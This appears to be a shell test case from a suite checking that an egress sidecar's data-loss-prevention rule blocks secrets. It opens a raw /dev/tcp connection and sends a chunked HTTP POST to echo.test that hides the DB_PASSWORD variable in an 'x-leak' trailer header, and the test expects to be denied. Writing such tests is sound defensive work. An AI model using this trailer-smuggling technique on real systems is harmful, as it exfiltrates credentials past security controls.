# S4: held secret in an HTTP/1.1 chunked trailer
# expect: fail
# audit: sidecar=egress decision=deny rule~dlp:held: host=echo.test
# upstream-must-not-see: DB_PASSWORD
exec 3<>/dev/tcp/bundle/8888 || exit 1
printf 'POST http://echo.test/allowed/trailer HTTP/1.1\r\nHost: echo.test\r\nTransfer-Encoding: chunked\r\nTrailer: x-leak\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\nx-leak: %s\r\n\r\n' "$DB_PASSWORD" >&3
reply=$(timeout 10 cat <&3)
echo "$reply" | head -3
echo "$reply" | grep -q '^HTTP/1\.[01] 200'
